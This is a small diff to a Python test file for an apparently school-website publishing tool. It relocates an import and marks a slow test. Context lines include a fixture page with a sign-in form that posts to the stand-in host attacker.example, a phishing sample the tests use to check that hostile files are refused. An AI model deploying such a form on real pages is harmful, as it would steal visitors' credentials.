@@ -12,8 +12,8 @@ from PIL import Image
 from pypdf import PdfWriter
 
 from homeroom_school.signatures import mismatch
+from tests.portfolios import PORTFOLIO, portfolio_school
 from tests.sites import PUBLISHED, build, invoke, read_tree, strong_secrets, write_school
-from tests.test_portfolio import PORTFOLIO, portfolio_school
 
 NEWS = "classes/grade-1/news"
 PAGE = b"<!DOCTYPE html>\n<html><body><form action=https://attacker.example>Sign in</form>"
@@ -141,6 +141,7 @@ def said(output: str) -> list[str]:
     return sorted(lines)
 
 
+@pytest.mark.slow
 def test_check_build_and_publish_refuse_the_same_renamed_files_and_publish_none(tmp_path):
     content = portfolio_school(tmp_path / "content")
     write_school(content, ATTACK)
